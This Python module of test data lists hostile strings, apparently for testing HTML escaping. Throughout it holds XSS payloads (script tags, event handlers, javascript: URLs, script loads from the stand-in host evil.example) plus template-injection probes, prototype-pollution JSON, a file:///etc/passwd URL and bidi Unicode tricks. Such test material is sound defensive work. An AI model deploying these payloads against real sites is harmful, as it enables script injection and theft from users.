# ruff: noqa: E501
"""Two hundred strings that would do harm on a page that prints them carelessly."""

from __future__ import annotations

RUN = "window.hacked=1"
OUT = "//evil.example/x"

TAGS = [
    f"<script>{RUN}</script>", f"<SCRIPT>{RUN}</SCRIPT>", f"<script src={OUT}></script>", f"<script/x>{RUN}</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>", f"<script>{RUN}//", f"</script><script>{RUN}</script>", f"<script type=module>{RUN}</script>",
    f"<img src=x onerror={RUN}>", f"<img src='{OUT}.png'>", f"<img srcset='{OUT} 1x'>", f"<image href={OUT}>",
    f"<svg onload={RUN}>", f"<svg><script>{RUN}</script></svg>", f"<svg><image href='{OUT}'/></svg>", f"<svg><use href='{OUT}#a'/></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>", f"<svg><foreignObject><iframe src={OUT}></svg>", f"<math><mtext><script>{RUN}</script>", f"<math href=javascript:{RUN}>x",
    f"<iframe src={OUT}></iframe>", f"<iframe srcdoc='<script>parent.{RUN}</script>'>", f"<object data={OUT}>", f"<embed src={OUT}>",
    f"<video src={OUT} autoplay>", f"<audio src={OUT} onerror={RUN}>", f"<link rel=stylesheet href={OUT}>", f"<link rel=prefetch href={OUT}>",
    f"<link rel=dns-prefetch href={OUT}>", f"<base href={OUT}>", f"<meta http-equiv=refresh content='0;url={OUT}'>", "<meta http-equiv=Content-Security-Policy content=\"default-src *\">",
    f"<style>@import '{OUT}';</style>", f"<style>*{{background:url({OUT})}}</style>", "<style>body{display:none}</style>", f"<form action={OUT}><input name=q autofocus onfocus={RUN}>",
    f"<button formaction=javascript:{RUN}>x", f"<details open ontoggle={RUN}>", f"<body onload={RUN}>", f"<marquee onstart={RUN}>",
    f"<input onfocus={RUN} autofocus>", f"<select onfocus={RUN} autofocus>", f"<textarea autofocus onfocus={RUN}>", f"<a href=javascript:{RUN}>x</a>",
    "<plaintext>", "<xmp>", "<noscript><p title=\"</noscript><img src=x onerror=window.hacked=1>\">", "<template><script>window.hacked=1</script></template>",
    "<title>other</title>", "</title><script>window.hacked=1</script>", "</textarea><script>window.hacked=1</script>", "</style><script>window.hacked=1</script>",
    "</p></div></main></body></html>", "<html><body><h1>Other</h1>", "<table><tr><td>", "</span></q></li></ul>", "<h1>", "<q data-doc=x data-start=0 data-end=9>never said</q>",
    "<portal src=//evil.example/>", "<dialog open>Sign in</dialog>",
]  # fmt: skip
ATTRIBUTES = [
    f"\" onmouseover=\"{RUN}", f"' onmouseover='{RUN}", f"\"><script>{RUN}</script>", f"'><script>{RUN}</script>", f"\" onfocus={RUN} autofocus x=\"", f"` onload={RUN} x=`",
    f"x onerror={RUN}", f"\"/><img src=x onerror={RUN}>", "\" style=\"position:fixed;inset:0", "' style='background:url(//evil.example/x)", "\" hidden=\"", "\" data-aside=\"", "\" data-doc=\"other\" data-start=\"0", "\" id=\"works", "\" class=\"card",
    "\" href=\"//evil.example", "\" src=\"//evil.example", "\" srcdoc=\"<script>", "\" target=\"_blank", "\" ping=\"//evil.example/p", f"&quot; onclick=&quot;{RUN}", f"&#34; onclick=&#34;{RUN}", f"&#x22;&#x3e;<script>{RUN}</script>",
    "=\"", "'\"`", "\\\"", "\\'", "\">", "'>", "/>",
]  # fmt: skip
ADDRESSES = [
    f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f" javascript:{RUN}", f"java\tscript:{RUN}", f"java\nscript:{RUN}", f"\x01javascript:{RUN}", f"javascript&colon;{RUN}", f"javascript://%0a{RUN}",
    f"data:text/html,<script>{RUN}</script>", f"data:text/html;base64,PHNjcmlwdD4{'A' * 20}", f"vbscript:{RUN}", "file:///etc/passwd", "blob:null/1", "about:srcdoc", "view-source:https://evil.example", "filesystem:https://evil.example/x",
    OUT, "\\\\evil.example\\x", "/\\evil.example", "https:evil.example", "https://", "https://[", "http://evil.example\" onclick=\"window.hacked=1", "http://evil.example/'><script>window.hacked=1</script>",
    "https://user:pw@evil.example/", "https://evil.example/\u202egpj.exe", "https://еxample.example/", "http://a.example/#\"><img src=x onerror=window.hacked=1>", "feed:javascript:window.hacked=1", "jar:https://evil.example!/",
]  # fmt: skip
STYLES = [
    "expression(window.hacked=1)", "background:url(//evil.example/x)", "behavior:url(#x)", "-moz-binding:url(//evil.example/x)", "}*{display:none}", "*/body{display:none}/*", "@import '//evil.example/x';", "\\75rl(//evil.example/x)",
    "content:url(//evil.example/x)", "font-face{src:url(//evil.example/x)}", "--x:url(//evil.example/x)", "image-set('//evil.example/x' 1x)",
]  # fmt: skip
UNICODE = [
    "\u202egnorw yaw eht\u202c", "\u202eno end", "\u202dforced", "\u2066isolated", "\u2067rtl", "\u2068first strong", "\u2069alone", "\u200eleft\u200fright",
    "zero\u200bwidth\u200cjoin\u200der", "\ufeffmark", "soft\u00adhyphen", "word\u2060joiner", "Z" + "\u0301\u0334\u0489" * 60, "e" + "\u0301" * 300, "\u0e49" * 80, "\u1160\u3164filler",
    "NUL\x00inside", "\x00", "\x01\x02\x03\x08", "\x0bvertical\x0cfeed", "escape\x1b[31m red", "\x7fdelete", "\x80\x9fC1", "lone \ud800 high",
    "lone \udfff low", "\udfff\ud800", "nonchar \ufffe \uffff", "\U0010ffff", "\U000e0041\U000e0042tags", "\u2028line\u2029paragraph", "full\uff1cscript\uff1e", "\u2039script\u203a",
    "ﬁne ligature", "I\u0307stanbul \u0131", "\u0627\u0644\u0633\u0644\u0627\u0645 \u05e9\u05dc\u05d5\u05dd", "\U0001f468\u200d\U0001f469\u200d\U0001f467", "\U0001f1fa\U0001f1e6\U0001f1f7", "\u0085next line",
]  # fmt: skip
LENGTHS = [
    "x" * 4000,
    "\u4e2d" * 1500,
    "W" * 300 + "\u00a0" + "W" * 300,
    "a-" * 900,
    "/" * 700,
    "&amp;" * 200,
    "<" * 400,
    "\U0001d518" * 500,
]
TEMPLATES = [
    "{{ 7 * 7 }}", "{% raw %}", "{% endraw %}", "{# note #}", "{{ ''.__class__.__mro__ }}", "{% include 'base.html.j2' %}", "{{ site.csp }}", "${7*7}", "#{7*7}", "<%= 7 * 7 %>", "{{{x}}}", "%s %d %(name)s", "{0} {}", "`${window.hacked=1}`",
]  # fmt: skip
COMMENTS = ["<!-- open", "-->", "<!-- --><script>window.hacked=1</script>", "<!--><script>window.hacked=1</script>", "]]>", "<![CDATA[<script>window.hacked=1</script>]]>", "<!DOCTYPE x>", "<?xml version='1.0'?>", "--!><script>window.hacked=1</script>", "<!--<script>"]  # fmt: skip
JSON = ['"}</script><script>window.hacked=1</script>', '\\u003cscript\\u003e', '"];window.hacked=1;["', '{"__proto__":{"hacked":1}}', '\\\\"', "\u2028\"", '"},"x":{"', "null", "__proto__", "constructor"]  # fmt: skip
REFERENCES = [
    "&lt;b&gt;",
    "&amp;lt;",
    "&#0;",
    "&#x110000;",
    "&NotAnEntity;",
    "&copy",
    "&#60;script&#62;",
    "&notit;",
]

EVERY = [
    *TAGS,
    *ATTRIBUTES,
    *ADDRESSES,
    *STYLES,
    *UNICODE,
    *LENGTHS,
    *TEMPLATES,
    *COMMENTS,
    *JSON,
    *REFERENCES,
]
